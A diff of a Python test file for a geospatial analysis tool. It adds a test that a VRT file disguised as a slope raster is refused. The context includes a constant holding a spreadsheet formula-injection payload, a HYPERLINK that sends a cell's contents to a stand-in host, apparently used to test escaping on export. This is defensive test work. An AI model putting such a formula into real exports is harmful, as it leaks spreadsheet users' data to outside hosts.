@@ -43,7 +43,7 @@ from layers.raster import check_dem
 from layers.roadcache import cached_road_graph, load_saved_road_graph
 from layers.rulesfile import read_rules
 from layers.sites import read_sites
-from layers.terrain import read_parcels, write_slope
+from layers.terrain import open_slope, read_parcels, write_slope
 from tests.layers.test_export import results  # noqa: F401  (the fixture)
 
 HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'
@@ -449,3 +449,10 @@ def test_random_bytes_give_an_anzhi_error_or_a_result(name: str) -> None:
                 pass  # refused with a message: fine; any other exception fails the test
 
     check()
+
+
+def test_a_vrt_given_as_a_slope_raster_is_refused(tmp_path: Path) -> None:
+    vrt = tmp_path / "slope.tif"
+    vrt.write_text('<VRTDataset rasterXSize="1" rasterYSize="1"></VRTDataset>', encoding="utf-8")
+    with pytest.raises(DataSourceError, match="slope raster"), open_slope(vrt):
+        pass
